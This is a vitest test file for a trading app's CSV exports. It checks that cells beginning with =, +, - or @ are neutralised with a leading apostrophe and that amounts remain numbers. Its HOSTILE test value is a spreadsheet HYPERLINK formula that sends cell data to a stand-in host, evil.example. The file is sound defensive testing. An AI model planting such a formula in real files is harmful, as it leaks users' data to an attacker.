// The trade exports (closed trades, executions) carry what broker files and members wrote: a hostile
// cell comes out as text a spreadsheet shows, never a formula; amounts stay numbers.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Trade } from '../../functions/_lib/contract/index.ts';
import { executionsCsv, tripsCsv } from '../../member-app/trades/trips-csv.ts';
import { closedTrade } from '../support/trades.ts';

const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
/** What a spreadsheet reads back from the neutralised cell: the same characters after a `'`. */
const NEUTRALISED = `'${HOSTILE}`;

/** The cells of a one-row export by header, read back as a spreadsheet would (RFC 4180 quoting). */
function cells(text: string): Record<string, string> {
  const [header = [], row = []] = Papa.parse<string[]>(text.trimEnd()).data;
  return Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
}

describe('closed trades CSV', () => {
  const trip = closedTrade({ id: 'trade_A', symbol: '-ABC', net: '-750.3600', gross: '-749.3600' });
  const tags = [
    { id: 'setup:ev', name: '+EV', kind: 'setup' as const },
    { id: 'mistake:1r', name: '-1R', kind: 'mistake' as const },
  ];
  const text = tripsCsv([trip], { tagsOf: () => ['setup:ev', 'mistake:1r'], riskOf: () => '50' }, tags);

  it.each([
    ['symbol', "'-ABC"],
    ['setup_tags', "'+EV"],
    ['mistake_tags', "'-1R"],
  ])('neutralises the %s text cell', (column, cell) => {
    expect(cells(text)[column]).toBe(cell);
  });

  it.each([
    ['net', '-750.3600'],
    ['gross', '-749.3600'],
    ['return_pct', '-150.07'],
    ['risk', '50'],
    ['held_seconds', '900'],
  ])('keeps the %s number a number', (column, cell) => {
    expect(cells(text)[column]).toBe(cell);
  });

  it('neutralises a tag name the store hands back whatever it holds', () => {
    const hostile = tripsCsv([trip], { tagsOf: () => ['setup:x'], riskOf: () => null }, [
      { id: 'setup:x', name: HOSTILE, kind: 'setup' },
    ]);
    expect(cells(hostile).setup_tags).toBe(NEUTRALISED);
  });
});

describe('executions CSV', () => {
  const trade: Trade = {
    trade_id: 'trade_A',
    symbol: '@SUM',
    tradeType: 'sell',
    shares: '1000',
    buyPrice: null,
    sellPrice: '0.6',
    sellProfit: null,
    fees: '-0.35',
    note: '',
    time: 1000,
    updated: 0,
    source: '+cmd',
    account: HOSTILE,
    intent: null,
    fingerprint: null,
  };
  const text = executionsCsv([closedTrade({ fills: ['trade_A'] })], new Map([['trade_A', trade]]), () => 't');

  it.each([
    ['account', NEUTRALISED],
    ['symbol', "'@SUM"],
    ['source', "'+cmd"],
    ['fees', '-0.35'],
    ['price', '0.6'],
    ['shares', '1000'],
  ])('writes the %s cell as %s', (column, cell) => {
    expect(cells(text)[column]).toBe(cell);
  });
});
